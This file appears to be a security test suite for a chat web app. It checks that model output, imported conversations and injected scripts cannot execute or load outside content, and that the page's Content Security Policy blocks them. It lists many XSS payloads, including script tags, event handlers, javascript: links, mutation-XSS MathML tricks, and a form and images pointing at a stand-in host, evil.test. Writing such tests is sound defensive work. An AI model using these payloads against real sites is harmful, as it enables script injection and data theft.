"""No answer of a model can act in the page: not by HTML, Markdown, LaTeX, notation, names or addresses."""

from __future__ import annotations

import json
from typing import Any

from tests.server.fake_runner import FakeBackend
from tests.web.conftest import Open, ask, rest

DOCUMENT = "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4="
PICTURE = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oYWNrZWQ9MSIvPg=="
ANSWERS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1> <b onclick=window.hacked=1>bold</b>",
    "<svg onload=window.hacked=1><script>window.hacked=1</script><foreignObject><iframe></iframe></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
    "<iframe src=http://evil.test></iframe><object data=http://evil.test></object><embed src=http://evil.test>",
    "<style>@import url(http://evil.test/a.css); body{background:url(http://evil.test/b.png)}</style>",
    "<link rel=stylesheet href=http://evil.test/a.css><base href=http://evil.test/><meta http-equiv=refresh content=0>",
    "<form action=http://evil.test><input type=password name=p><button>Send</button></form>",
    "<p style='position:fixed;inset:0;background:red' id=draft class='welcome molecule'>over everything</p>",
    "[click](javascript:window.hacked=1) [click](JaVaScRiPt&#58;window.hacked=1) [click](vbscript:x)",
    "<javascript:window.hacked=1>",
    f"[click]({DOCUMENT}) ![x]({DOCUMENT}) ![x]({PICTURE})",
    "![x](http://evil.test/p.png) ![x](//evil.test/p.png) ![x](https://evil.test/?q=secret)",
    "![x][r]\n\n[r]: http://evil.test/r.png",
    '![x" onerror="window.hacked=1](data:image/png;base64,AAAA) [x](http://a.test/"onclick="window.hacked=1)',
    "![a](/api/delete) ![b](../metrics) [c](/api/tags)",
    '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    "``` js onload=window.hacked=1\n</code></pre><script>window.hacked=1</script>\n```",
    r"$\href{javascript:window.hacked=1}{x}$ $\url{javascript:window.hacked=1}$",
    r"$\includegraphics{http://evil.test/a.png}$",
    r"$\class{x\" onclick=\"window.hacked=1}{y}$ $\id{draft}{y}$ $\htmlData{a=b}{c}$",
    r"$\style{position:fixed}{z}$ $\toggle{a}{b}\endtoggle$",
    r"$$\def\a{\a\a}\a$$ $\rule{1000em}{1000em}$ $<img src=x onerror=window.hacked=1>$",
    "<SMILES><img src=x onerror=window.hacked=1></SMILES> <FASTA><script>window.hacked=1</script></FASTA>",
    "<IUPAC>' onload='x</IUPAC>",
    "<SMILES>C |$<script>window.hacked=1</script>;$|</SMILES> <SMILES>[C:1]([*:2])O</SMILES>",
    "\ue0000\ue001 [a](\ue0000\ue001) ![\ue0001\ue001](\ue0000\ue001) <SMILES>CCO</SMILES>",
    "[b](http://x.test/<SMILES>CCO</SMILES>)",
    "[" * 3000 + "x" + "](" * 300,
    ">" * 3000 + " deep",
    "| a | b |\n|---|---|\n| <script>window.hacked=1</script> | [x](javascript:window.hacked=1) |",
    "- [x] done <input type=image src=http://evil.test/i.png onerror=window.hacked=1>",
    "constructor __proto__ [toString](hasOwnProperty) ![__proto__](constructor)",
]
# What may be in an answer, and which attributes; MathML is what the formulas become.
ALLOWED = """() => {
  const names = 'article h3 details summary span div p br hr h1 h2 h4 h5 h6 ul ol li blockquote pre code em strong del '
    + 'a img table thead tbody tr th td input figure figcaption button svg use sub sup';
  const allowed = new Set(names.split(' '));
  const KNOWN = /^(https?:|mailto:|data:image\\/(png|jpeg|gif|webp|svg\\+xml;charset=utf-8,))/;
  const found = [];
  for (const element of document.querySelectorAll('#messages .text *, #messages .thought-text *')) {
    const isMath = element.namespaceURI.endsWith('MathML');
    if (!allowed.has(element.localName) && !isMath) found.push(element.outerHTML.slice(0, 200));
    for (const { name, value } of element.attributes) {
      const text = value.replace(/[\\s\\0]/g, '').toLowerCase();
      if (/^on|^srcdoc$|^action$/.test(name)) found.push(`${name}=${value}`);
      if (name === 'style' && !isMath && element.localName !== 'span') found.push(`${name}=${value}`);
      const goes = /^(href|src|xlink:href)$/.test(name) && element.localName !== 'use';
      if (goes && !KNOWN.test(text)) found.push(`${name}=${value}`);
      if (name === 'src' && /^http/.test(text)) found.push(`${name}=${value}`);
      if (name === 'id') found.push(`${name}=${value}`);
    }
  }
  return found;
}"""


def test_answers_and_thoughts_only_show(open_page: Open, backend: FakeBackend) -> None:
    page = open_page()
    for at in range(0, len(ANSWERS), 7):
        answers = ANSWERS[at : at + 7]
        for number, answer in enumerate(answers, 1):
            middle = len(answer) // 2
            backend.enqueue(f"{answer}</think>\n\n{answer[:middle]}", answer[middle:])
            ask(page, answer[:300])
            page.locator(".message.assistant").nth(number - 1).wait_for(state="attached")
            page.wait_for_selector("body:not(.running)")
        rest(page)
        assert page.locator(".message.assistant").count() == len(answers)
        assert page.evaluate(ALLOWED) == []
        assert page.evaluate("window.hacked") is None
        for button in page.locator("#messages .text a").all():
            assert button.get_attribute("rel") == "noopener noreferrer nofollow"
        page.locator("#new-chat").click()
    assert page.locator("#draft").count() == 1 and page.url.startswith(page.asked[0])


def test_tools_titles_and_files_only_show(open_page: Open, backend: FakeBackend) -> None:
    page = open_page()
    html = "<img src=x onerror=window.hacked=1>"
    media = [{"type": "image/png;x", "data": "A"}]
    nodes: dict[str, Any] = {"m1": {"parent": "root", "role": "user", "content": html, "media": media}}
    nodes["m2"] = {"parent": "m1", "role": "assistant", "content": html, "thinking": html, "error": html, "model": html}
    nodes["m2"] |= {"calls": [{"name": html, "arguments": {html: html}}], "schema": {html: html}}
    nodes["m3"] = {"parent": "m2", "role": "tool", "toolName": html, "content": html}
    nodes["m4"] = {"parent": "__proto__", "role": "user", "content": html}
    chosen = {"root": "m1", "m1": "m2", "m2": "m3", "__proto__": "m4"}
    chat = {"title": html, "chosen": chosen, "nodes": nodes}
    file = {"format": "interns1-conversations", "conversations": [chat, {"nodes": []}, 5, None]}
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Import conversations").click()
    content = json.dumps(file).encode()
    chooser.value.set_files({"name": "chat.json", "mimeType": "application/json", "buffer": content})
    page.locator(".message.tool").wait_for()
    page.keyboard.press("?")
    assert page.evaluate(ALLOWED) == [] and page.evaluate("window.hacked") is None
    assert page.locator("#chats .chat").inner_text() == html


ATTACKS = [
    "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked=1' }))",
    "document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,hacked=1' }))",
    "document.body.setAttribute('onclick', 'window.hacked=1'); document.body.click()",
    "document.querySelector('#notice').innerHTML = '<img src=x onerror=window.hacked=1>'",
    "document.body.append(Object.assign(new Image(), { src: 'http://127.0.0.1:9/a.png' }))",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:9/' }))",
    "fetch('http://127.0.0.1:9/')",
]


def test_the_policy_holds_what_slips_through(open_page: Open) -> None:
    page = open_page()
    for attack in ATTACKS:
        page.evaluate(
            f"async () => {{ window.ran = 0; try {{ {attack}; window.ran = 1; }} catch {{ window.ran = 2; }} }}"
        )
        page.wait_for_timeout(60)
        assert page.evaluate("window.hacked") is None
        said = [text for text in page.problems if "Content Security Policy" in text or "TrustedScript" in text]
        assert said or page.evaluate("window.ran") == 2, attack
        page.problems.clear()
    # What the policy stops never leaves the browser.
    page.asked[:] = [url for url in page.asked if ":9/" not in url]
